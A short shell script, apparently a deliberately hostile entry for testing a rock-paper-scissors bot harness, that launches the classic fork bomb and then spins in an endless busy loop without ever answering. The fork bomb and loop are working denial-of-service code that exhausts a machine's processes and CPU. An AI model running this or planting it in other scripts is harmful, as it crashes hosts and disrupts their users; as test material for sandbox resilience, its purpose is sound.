#!/bin/sh
# Hostile rps bot: the classic shell fork bomb; it never answers.
bomb() { bomb | bomb & }
bomb
# Whatever the bomb achieved, this shell never answers.
while :; do :; done
